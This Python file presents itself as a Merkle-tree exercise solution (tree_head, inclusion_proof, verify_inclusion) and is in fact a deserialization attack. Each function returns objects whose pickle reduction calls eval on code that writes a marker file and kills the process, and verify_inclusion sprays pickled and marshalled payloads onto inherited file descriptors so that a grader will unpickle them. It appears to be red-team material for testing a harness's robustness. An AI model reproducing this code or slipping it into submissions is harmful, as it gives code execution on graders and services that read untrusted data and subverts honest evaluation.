"""tries: to run code where its answer is read, by pickles, marshals and reductions inside values and on the wire"""

# exercise: tree_head
# earns: none
import copyreg
import marshal
import os
import pickle
import struct

CODE = "open('/tmp/som_hostile_pickle', 'w').close() or __import__('os')._exit(0)"


class Payload:
    def __reduce_ex__(self, protocol):
        return eval, (CODE,)

    def __getstate__(self):
        return {"code": CODE}

    def __deepcopy__(self, memo):
        raise SystemExit(0)

    __copy__ = __deepcopy__


copyreg.pickle(Payload, lambda one: (eval, (CODE,)))


def send():
    for raw in (pickle.dumps(Payload()), marshal.dumps(compile(CODE, "x", "eval"))):
        for fd in range(3, 32):
            for word in (raw, struct.pack("<I", len(raw)) + raw, struct.pack(">I", len(raw)) + raw):
                try:
                    os.write(fd, word)
                except OSError:
                    break


def tree_head(records):
    return Payload()


def inclusion_proof(records, index):
    return [Payload(), pickle.dumps(Payload())]


def verify_inclusion(record, index, size, proof, head):
    send()
    return Payload
